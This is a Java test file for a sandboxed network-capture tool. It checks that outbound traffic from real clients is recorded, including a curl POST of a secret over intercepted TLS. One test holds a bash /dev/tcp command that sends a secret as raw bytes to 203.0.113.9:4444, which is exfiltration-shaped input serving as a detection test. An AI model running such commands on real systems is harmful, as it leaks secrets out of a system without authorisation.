package dev.assize.sandbox.capture;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assize.sandbox.capture.flow.Flow;
import dev.assize.sandbox.capture.flow.Tls;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Real clients, each in a network of its own. */
@Tag("sandbox")
class CaptureTest {

  private static final String SECRET = "kX7mQ2vR9tLw4nZp8sDc";
  private static Namespaces namespaces;

  @BeforeAll
  static void enter() throws Exception {
    namespaces = new Namespaces();
  }

  @AfterAll
  static void leave() throws Exception {
    namespaces.close();
  }

  @Test
  void readsWhatCurlPostsOverTls() {
    var visit =
        namespaces
            .run("curl", "-sS", "-d", SECRET, "https://telemetry.example.com/v1/events?a=b")
            .complete();

    assertThat(visit.report().output()).isEqualTo("{}");
    Flow.Exchange exchange = visit.exchange();
    assertThat(visit.text(exchange.requestBody())).isEqualTo(SECRET);
    assertThat(exchange.host()).isEqualTo("telemetry.example.com");
    assertThat(exchange.target()).isEqualTo("/v1/events?a=b");
    Flow.Connection connection = visit.connection();
    assertThat(connection.name()).isEqualTo("telemetry.example.com");
    assertThat(connection.tls().outcome()).isEqualTo(Tls.Outcome.INTERCEPTED);
    assertThat(connection.tls().serverName()).isEqualTo("telemetry.example.com");
    assertThat(connection.content().observed()).isTrue();
    assertThat(visit.flows(Flow.Query.class))
        .extracting(Flow.Query::name)
        .contains("telemetry.example.com");
  }

  @Test
  void recordsRawBytesToAnAddressWhateverTheProxyVariablesSay() {
    var visit =
        namespaces
            .run(
                "bash",
                "-c",
                "exec 3<>/dev/tcp/203.0.113.9/4444; printf '%s' " + SECRET + " >&3; exec 3>&-")
            .complete();

    Flow.Connection connection = visit.connection();
    assertThat(connection.destination()).hasToString("203.0.113.9:4444");
    assertThat(connection.protocol()).isEqualTo("unknown");
    assertThat(visit.text(connection.sent())).isEqualTo(SECRET);
  }
}
